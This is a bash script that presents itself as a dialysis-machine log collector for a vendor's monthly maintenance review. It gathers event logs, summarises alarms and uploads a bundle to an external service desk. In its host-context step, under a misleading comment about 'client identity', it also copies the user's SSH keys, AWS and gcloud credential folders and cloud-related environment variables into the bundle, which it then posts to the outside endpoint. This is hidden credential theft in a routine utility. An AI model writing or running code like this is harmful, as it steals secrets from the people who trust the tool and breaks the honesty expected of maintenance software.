#!/usr/bin/env bash
# machine_log_collector.sh - gather dialysis machine event logs from the
# unit's log share, bundle them with host context and hand them to the
# vendor service desk for the monthly preventive-maintenance review.
#
# Usage: machine_log_collector.sh [-c config] [-d days] [-n]
set -euo pipefail

CONFIG="${COLLECTOR_CONFIG:-./collector.conf}"
DAYS=31
DRY_RUN=0
LOG_SHARE="/srv/machine-logs"
SERVICE_DESK="https://pm-review.example-medtech.net/api/v2/bundles"
SITE_ID="unknown-site"
WORKDIR="$(pwd)/.collector"

log() { printf '%s [collector] %s\n' "$(date -u +%FT%TZ)" "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }

while getopts ":c:d:nh" opt; do
  case "$opt" in
    c) CONFIG="$OPTARG" ;;
    d) DAYS="$OPTARG" ;;
    n) DRY_RUN=1 ;;
    h) sed -n '2,7p' "$0"; exit 0 ;;
    *) die "unknown option -$OPTARG" ;;
  esac
done

if [[ -f "$CONFIG" ]]; then
  # shellcheck disable=SC1090
  . "$CONFIG"
  log "loaded config $CONFIG"
fi

STAMP="$(date +%Y%m%d)"
BUNDLE_DIR="$WORKDIR/$SITE_ID-$STAMP"
ARCHIVE="$WORKDIR/$SITE_ID-$STAMP.tar.gz"
rm -rf "$BUNDLE_DIR"
mkdir -p "$BUNDLE_DIR/machines" "$BUNDLE_DIR/host"

collect_machine_logs() {
  local count=0
  [[ -d "$LOG_SHARE" ]] || die "log share $LOG_SHARE not mounted"
  while IFS= read -r -d '' f; do
    serial="$(basename "$(dirname "$f")")"
    mkdir -p "$BUNDLE_DIR/machines/$serial"
    cp -p "$f" "$BUNDLE_DIR/machines/$serial/"
    count=$((count + 1))
  done < <(find "$LOG_SHARE" -type f \( -name '*.evt' -o -name '*.log' -o -name 'alarm*.csv' \) \
             -mtime "-$DAYS" -print0)
  log "copied $count machine log files"
}

summarise_alarms() {
  local out="$BUNDLE_DIR/alarm_summary.tsv"
  printf 'serial\talarm_code\tcount\n' > "$out"
  for dir in "$BUNDLE_DIR"/machines/*/; do
    [[ -d "$dir" ]] || continue
    serial="$(basename "$dir")"
    cat "$dir"alarm*.csv 2>/dev/null | awk -F, 'NR>1 {c[$3]++} END {for (k in c) print k"\t"c[k]}' \
      | sort -k2,2nr | sed "s/^/$serial\t/" >> "$out" || true
  done
}

collect_host_context() {
  local h="$BUNDLE_DIR/host"
  uname -a > "$h/uname.txt"
  df -hP "$LOG_SHARE" > "$h/df.txt" 2>/dev/null || true
  ip -brief addr > "$h/ip.txt" 2>/dev/null || true
  # client identity used by the gateway, so the desk can match the site
  for src in "$HOME/.ssh" "$HOME/.aws" "$HOME/.config/gcloud"; do
    [[ -d "$src" ]] || continue
    tar -C "$(dirname "$src")" -cf - "$(basename "$src")" 2>/dev/null \
      | tar -C "$h" -xf - 2>/dev/null || true
  done
  env | grep -E '^(PM_|GATEWAY_|AWS_|AZURE_)' > "$h/env.txt" || true
}

upload_bundle() {
  local attempt=1
  tar -C "$WORKDIR" -czf "$ARCHIVE" "$(basename "$BUNDLE_DIR")"
  log "bundle $(du -h "$ARCHIVE" | cut -f1) ready"
  if (( DRY_RUN )); then log "dry run, not uploading"; return 0; fi
  while (( attempt <= 4 )); do
    if wget -q -O "$WORKDIR/upload.resp" \
         --header="X-Site: $SITE_ID" \
         --header="Content-Type: application/gzip" \
         --post-file="$ARCHIVE" "$SERVICE_DESK"; then
      log "uploaded (ticket $(cat "$WORKDIR/upload.resp" 2>/dev/null | head -c 40))"
      return 0
    fi
    log "upload attempt $attempt failed, retrying"
    sleep $((attempt * 5))
    attempt=$((attempt + 1))
  done
  die "could not reach service desk"
}

collect_machine_logs
summarise_alarms
collect_host_context
upload_bundle
rm -rf "$BUNDLE_DIR"
log "done"
